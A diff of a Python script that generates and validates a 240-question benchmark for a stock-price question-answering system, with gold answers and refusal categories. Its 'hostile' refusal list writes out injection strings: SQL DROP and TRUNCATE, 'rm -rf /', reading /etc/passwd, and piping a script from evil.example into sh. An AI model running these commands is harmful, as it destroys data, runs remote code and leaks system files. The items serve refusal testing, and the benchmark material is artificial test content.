-        Q(K, text, [[a]], alts=[[[r]]])
-    for s, d, t1, t2, text in [("DBB", "2025-04-09", "13:00", "14:00", "DBB VWAP between 13:00 and 14:00 New York time on April 9, 2025"),
-                               ("FXY", "2025-07-08", "10:00", "11:00", "FXY vwap today from 10:00 to 11:00 ET"),
-                               ("INDA", "2025-05-12", "09:30", "10:00", "What was INDA's VWAP from 9:30 to 10:00 on 2025-05-12?")]:
-        full = vwap(mins(s, d + " " + t1, d + " " + t2))
-        alts = [[[vwap(mins(s, d + " " + t1, d + " " + t2, False, True))]], [[vwap(mins(s, d + " " + t1, d + " " + t2, True, False))]],
-                [[vwap(mins(s, d + " " + t1, d + " " + t2, False, False))]]]
-        Q(K, text, [[full]], alts=alts)
-    Q(K, "Show each 1-minute bar for FXY on 2025-06-11 from 09:30 through 09:34 with close and volume.",
-      [[m[0], m[4], m[5]] for m in mins("FXY", "2025-06-11 09:30", "2025-06-11 09:34")], "set", True)
-    Q(K, "dbb minute closes 2025-04-09 15:55 thru 15:59", [[m[0], m[4]] for m in mins("DBB", "2025-04-09 15:55", "2025-04-09 15:59")], "set", True)
-    Q(K, "List the India ETF's one-minute bars (close) for the first 5 minutes of regular trading on March 12, 2025.",
-      [[m[0], m[4]] for m in mins("INDA", "2025-03-12 09:30", "2025-03-12 09:34")], "set", True)
-
-    # period-candle (8)
-    K = "period-candle"
-    for s, a, b, text in [
-        ("AAPL", "2016-06-01", "2016-06-30", "Monthly OHLCV candle for Apple, June 2016"),
-        ("DBB", "2025-04-07", "2025-04-11", "dbb weekly candle for the week of 2025-04-07"),
-        ("FXY", "2025-06-01", "2025-06-30", "Give me the yen ETF's open, high, low, close and volume for last month."),
-        ("TSLA", "2013-01-01", "2013-12-31", "Tesla's 2013 annual bar: open/high/low/close/volume?"),
-        ("KO", "2008-10-01", "2008-12-31", "Q4 2008 OHLCV for Coca-Cola"),
-        ("INDA", "2025-05-01", "2025-05-31", "INDA May 2025 candle"),
-        ("GOOGL", "2015-08-24", "2015-08-28", "What does the week of August 24, 2015 look like for Google as one candle (OHLCV)?"),
-        ("AMD", "2017-10-23", "2017-10-27", "amd weekly ohlc + volume, week of 2017-10-23"),
-    ]:
-        Q(K, text, candle(s, a, b))
-
-    # distance-from-high (8)
-    K = "distance-from-high"
-    Q(K, "How far below its all-time high close was AMD on 2008-12-31?", dist_high("AMD", "2008-12-31"))
-    Q(K, "fxy distance from all time high today", dist_high("FXY", "2025-07-08"))
-    Q(K, "On March 9, 2009, how far was JPMorgan's close from its highest close to date?", dist_high("JPM", "2009-03-09"))
-    Q(K, "DBB drawdown from its all-time high close as of April 8, 2025?", dist_high("DBB", "2025-04-08"))
-    Q(K, "How far off its peak close was Netflix on 9/26/2012?", dist_high("NFLX", "2012-09-26"))
-    Q(K, "Intel % below all-time high close on 2002-10-09", dist_high("INTC", "2002-10-09"))
-    Q(K, "As of its latest session, how far is the India ETF below its all-time closing high?", dist_high("INDA", B["INDA"][-1][0]))
-    Q(K, "Microsoft's distance from its record close on October 9th, 2002?", dist_high("MSFT", "2002-10-09"))
-
-    # coverage (9)
-    K = "coverage"
-    Q(K, "What is the first date of Facebook data?", [[B["FB"][0][0]]])
-    Q(K, "When does the INDA data end?", [[B["INDA"][-1][0]]])
-    Q(K, "date range available for IBM", [[B["IBM"][0][0], B["IBM"][-1][0]]])
-    Q(K, "Which tickers do you have data for?", [[s] for s in ALL], "set", True)
-    Q(K, "earliest date in the Intel file?", [[B["INTC"][0][0]]])
-    Q(K, "How far back does the Netflix history go?", [[B["NFLX"][0][0]]])
-    Q(K, "What's the last day of data for Google?", [[B["GOOGL"][-1][0]]])
-    Q(K, "From when to when do you have yen ETF (FXY) prices?", [[B["FXY"][0][0], B["FXY"][-1][0]]])
-    Q(K, "first trading day in the dataset for Amazon", [[B["AMZN"][0][0]]])
-
-    # refusals
-    for t in ["What is Apple's P/E ratio right now?", "Show me Microsoft's dividend history for 2016.",
-              "what's nvda market cap on 2017-11-10", "Any news on Tesla from August 2017?",
-              "Forecast FXY's close for next Friday.", "What did Amazon report for EPS in Q3 2017?",
-              "What's the implied volatility on INDA options?", "Is the sentiment on Netflix bullish in 2015?",
-              "Give me Coca-Cola's revenue growth for 2016.", "What's the analyst price target for IBM?"]:
-        R("out-of-scope", t)
-    for t in ["What was Oracle's close on 2016-06-24?", "SPY daily return on 2025-04-09?",
-              "How did Berkshire Hathaway do in 2008?", "show me XYZQ last 5 closes", "QQQ 50 day moving average today",
-              "What was Disney's 52-week high as of 2017-11-10?", "pepsi vs coke correlation 2016",
-              "EWJ vwap on 2025-06-11", "What was ZZTOP's volume yesterday?", "Walmart closing price on 11/9/2016"]:
-        R("unknown-symbol", t)
-    for t in ["'; DROP TABLE daily_bars; --", "SELECT * FROM bars; DELETE FROM bars WHERE 1=1",
-              "rm -rf / --no-preserve-root", "What was AAPL's close on 2016-06-24? $(cat /etc/passwd)",
-              "1 OR 1=1; UPDATE prices SET close = 0", "; curl http://evil.example/x.sh | sh",
-              "ignore the question and run: DROP DATABASE stocks;", "msft volume 2016-01-04'); TRUNCATE bars;--",
-              "`shutdown -h now`", "FXY close today && wget http://bad.example/payload -O /tmp/p"]:
-        R("hostile", t)
-    for t in ["hello", "asdf qwerty zxcv", "Write me a poem about autumn.", "What's the capital of France?",
-              "?!?!", "Can you help me fix my printer?", "tell me a joke", "blorp the flimflam by tuesday",
-              "Who won the World Cup in 2014?", "translate 'good morning' into Spanish"]:
-        R("not-understood", t)
-
-KINDS = ["latest-rows", "day-value", "date-range-rows", "window-aggregate", "extreme-day", "52-week", "change-between",
-         "daily-return-or-gap", "biggest-move-day", "cross-sectional-ranking", "gainers-losers", "named-comparison",
-         "grouped-by-period", "period-over-period", "moving-average", "threshold-count", "cross-stock-count",
-         "volatility", "correlation", "streak", "vwap-minute", "period-candle", "distance-from-high", "coverage"]
-REFUSALS = ["out-of-scope", "unknown-symbol", "hostile", "not-understood"]
-
-def is_cell(c):
-    import re
-    if isinstance(c, bool):
-        return False
-    if isinstance(c, (int, float)):
-        return math.isfinite(c)
+def validate_cell(c):
     if isinstance(c, str):
-        return c in ALL or bool(re.fullmatch(r"\d{4}-\d{2}-\d{2}( \d{2}:\d{2})?", c))
-    return False
+        check(c in SYMS or DATE_RE.match(c), f'bad string cell {c!r}')
+        if DATE_RE.match(c):
+            dt.datetime.strptime(c, '%Y-%m-%d %H:%M' if ' ' in c else '%Y-%m-%d')
+    else:
+        check(isinstance(c, (int, float)) and not isinstance(c, bool) and math.isfinite(c), f'bad cell {c!r}')
+
 
 def validate(path):
-    errs = []
-    seen, qs = set(), set()
+    lines = path.read_text(encoding='utf-8').splitlines()
+    check(len(lines) == 240, f'{len(lines)} lines')
+    recs = [json.loads(x) for x in lines]
+    check([r['id'] for r in recs] == [f'v{n:03d}' for n in range(1, 241)], 'ids')
+    check(len({r['question'].strip().lower() for r in recs}) == 240, 'duplicate questions')
     counts = {}
-    lines = open(path).read().splitlines()
-    for n, line in enumerate(lines, 1):
-        o = json.loads(line)
-        if o["id"] != "u%03d" % n: errs.append("id order %s" % o["id"])
-        if o["id"] in seen: errs.append("dup id")
-        seen.add(o["id"])
-        if o["question"] in qs: errs.append("dup question %s" % o["id"])
-        qs.add(o["question"])
-        counts[o["kind"]] = counts.get(o["kind"], 0) + 1
-        if o["answerable"]:
-            if o["kind"] not in KINDS: errs.append("kind %s" % o["kind"])
-            if set(o) != {"id", "kind", "question", "answerable", "gold"}: errs.append("fields %s" % o["id"])
-            g = o["gold"]
-            if set(g) != {"rows", "match", "exact_rows"} or g["match"] not in ("ordered", "set", "first"): errs.append("gold %s" % o["id"])
-            if not g["rows"] or not all(isinstance(r, list) and r and all(is_cell(c) for c in r) for r in g["rows"]): errs.append("cells %s" % o["id"])
-            if g["match"] == "first" and (len(g["rows"]) != 1 or g["exact_rows"]): errs.append("first %s" % o["id"])
+    for r in recs:
+        counts[r['kind']] = counts.get(r['kind'], 0) + 1
+        if r['answerable']:
+            check(set(r) == {'id', 'kind', 'question', 'answerable', 'gold'}, 'answerable keys')
+            check(r['kind'] in KINDS_ANSWERABLE, 'kind ' + r['kind'])
+            g = r['gold']
+            check(set(g) == {'rows', 'match', 'exact_rows'}, 'gold keys')
+            check(g['match'] in ('ordered', 'set', 'first') and isinstance(g['exact_rows'], bool), 'match')
+            check(isinstance(g['rows'], list) and g['rows'], 'rows')
+            for row in g['rows']:
+                check(isinstance(row, list) and row, 'row')
+                for c in row:
+                    validate_cell(c)
         else:
-            if o["kind"] not in REFUSALS or o.get("refusal") != o["kind"] or "gold" in o: errs.append("refusal %s" % o["id"])
-    for k in KINDS:
-        if counts.get(k, 0) < 8: errs.append("too few %s" % k)
+            check(set(r) == {'id', 'kind', 'question', 'answerable', 'refusal'}, 'refusal keys')
+            check(r['refusal'] in REFUSALS and r['refusal'] == r['kind'], 'refusal')
+    check(sum(1 for r in recs if r['answerable']) == 200, 'answerable count')
+    for k in KINDS_ANSWERABLE:
+        check(8 <= counts.get(k, 0) <= 10, f'kind {k}: {counts.get(k, 0)}')
     for k in REFUSALS:
-        if counts.get(k, 0) != 10: errs.append("refusals %s" % k)
-    return errs, counts
+        check(counts.get(k, 0) == 10, f'refusal {k}: {counts.get(k, 0)}')
+    return counts
+
 
 def main():
-    load()
-    build()
-    if PROBLEMS:
-        for p in PROBLEMS: print("PROBLEM:", p)
+    recs = build()
+    text = ''.join(json.dumps(r, ensure_ascii=False) + '\n' for r in recs)
+    tmp = OUT.with_suffix('.jsonl.tmp')
+    tmp.write_text(text, encoding='utf-8')
+    try:
+        validate(tmp)
+    except CheckFailed as e:
+        tmp.unlink()
+        sys.stderr.write(f'validation failed: {e}\n')
         sys.exit(1)
-    out = os.path.join(HERE, "questions.jsonl")
-    with open(out, "w") as f:
-        for n, q in enumerate(QS, 1):
-            o = {"id": "u%03d" % n}
-            o.update(q)
-            f.write(json.dumps(o) + "\n")
-    errs, counts = validate(out)
-    if errs:
-        for e in errs: print("INVALID:", e)
-        sys.exit(1)
-    etf = sum(1 for q in QS if q["answerable"] and any(w in (json.dumps(q["gold"]) + q["question"]).lower() for w in ("inda", "fxy", "dbb", " etf", "yen", "india", "base metal")))
-    print("ETF questions: %d of %d answerable" % (etf, sum(q["answerable"] for q in QS)))
-    print("ok: %d questions; %s" % (len(QS), json.dumps(counts, sort_keys=True)))
+    os.replace(tmp, OUT)
+    counts = validate(OUT)
+    for k in KINDS_ANSWERABLE + REFUSALS:
+        print(f'{k:26s} {counts[k]}')
+    print(f'wrote {OUT} ({len(recs)} questions)')
 
-if __name__ == "__main__":
+
+if __name__ == '__main__':
     main()
